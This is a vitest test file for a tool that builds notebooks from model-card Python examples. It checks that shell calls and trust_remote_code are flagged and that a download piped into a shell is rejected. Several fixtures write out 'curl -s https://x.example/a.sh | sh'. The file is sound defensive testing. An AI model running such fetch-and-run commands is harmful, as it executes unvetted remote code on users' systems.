import { describe, expect, it } from 'vitest';
import { notebookOf } from './from-card.ts';

const cardOf = (code: string) => `# Use\n\n\`\`\`python\n${code}\n\`\`\`\n`;
const EXAMPLE = `from transformers import pipeline
pipe = pipeline("text-generation", model="acorn/poet", trust_remote_code=True)
print(pipe("Hello"))`;

describe("risky constructs in the author's code", () => {
  it('are listed with their lines in cell 1, the warnings and the result', async () => {
    const { sources, warnings, risks } = await notebookOf(
      cardOf(`import os, pickle\n${EXAMPLE}\nos.system("nvidia-smi")\nos.system("free -g")`),
    );
    expect(risks).toEqual([
      { cell: 5, risk: 'shell', lines: [6, 7] },
      { cell: 5, risk: 'remote', lines: [4] },
    ]);
    const warning =
      "The author's code in cell 5 runs shell commands (lines 6, 7); runs the repository's own code (line 4).";
    expect(warnings).toContain(warning);
    expect(sources[0]!.replaceAll('\\', '')).toContain(warning);
    const lines = sources[4]!.split('\n');
    for (const line of [6, 7]) expect(lines[line - 1]).toContain('os.system');
    expect(lines[3]).toContain('trust_remote_code');
  });

  it('are counted below a cell magic and in further examples', async () => {
    const { sources, risks } = await notebookOf(
      `${cardOf(`%%time\n${EXAMPLE}`)}\n${cardOf(`${EXAMPLE}\nimport os\nos.system("ls")`)}`,
      { snippets: 'all' },
    );
    expect(risks.map(({ cell, risk }) => [cell, risk])).toEqual([
      [5, 'remote'],
      [6, 'shell'],
      [6, 'remote'],
    ]);
    const words = { shell: 'os.system', remote: 'trust_remote_code' } as Record<string, string>;
    for (const { cell, risk, lines } of risks)
      for (const line of lines) expect(sources[cell - 1]!.split('\n')[line - 1]).toContain(words[risk]);
  });

  it.each([
    ['!curl -s https://x.example/a.sh | sh'],
    ['import os\nos.system("curl -s https://x.example/a.sh | sh")'],
    ['import subprocess\nsubprocess.run("curl -s https://x.example/a.sh | sh", shell=True)'],
    ['get_ipython().system("curl -s https://x.example/a.sh | sh")'],
  ])('a download that runs in a shell is not taken: %s', async (command) => {
    const { content, strategy, reasons } = await notebookOf(cardOf(`${command}\n${EXAMPLE}`));
    expect(strategy).not.toBe('readme-python');
    expect(reasons.map(({ reason }) => reason)).toContain('pipes a download into a shell');
    expect(content).not.toContain('a.sh');
  });

  it('are not found in a plain example', async () => {
    const { risks, warnings } = await notebookOf(cardOf(EXAMPLE.replace(', trust_remote_code=True', '')));
    expect(risks).toEqual([]);
    expect(warnings.join()).not.toContain("author's code");
  });
});
